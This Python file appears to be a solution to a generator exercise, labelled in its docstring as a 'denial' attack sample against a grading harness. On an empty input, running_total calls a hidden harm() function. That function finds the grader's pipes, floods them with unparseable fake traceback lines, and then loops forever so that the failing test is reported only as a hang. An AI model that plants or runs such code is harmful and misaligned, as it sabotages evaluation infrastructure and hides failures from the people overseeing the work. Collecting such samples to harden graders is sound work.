"""Fills the pipe in which a hang is told with lines that nobody can read as numbers, and hangs.

Tries: denial
Exercise: 01_yield
Earns: all but test_no_numbers_give_no_total
Seen: Still running
"""

import os
import stat


def harm():
    for number in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(number).st_mode):
                os.set_blocking(number, False)
                os.write(number, b'File "generator.py", line ' + b"9" * 5000 + b" in foo\n")
                os.write(number, b'File "generator.py", line ' * 2000)
        except OSError:
            pass
    while True:
        pass


def foo():
    print("starting...")
    while True:
        res = yield 4
        print("res", res)


def count_up(start, stop=None):
    number = start
    while stop is None or number < stop:
        yield number
        number += 1


def running_total(numbers):
    if numbers == []:
        yield from harm()
    total = 0
    for number in numbers:
        total += number
        yield total
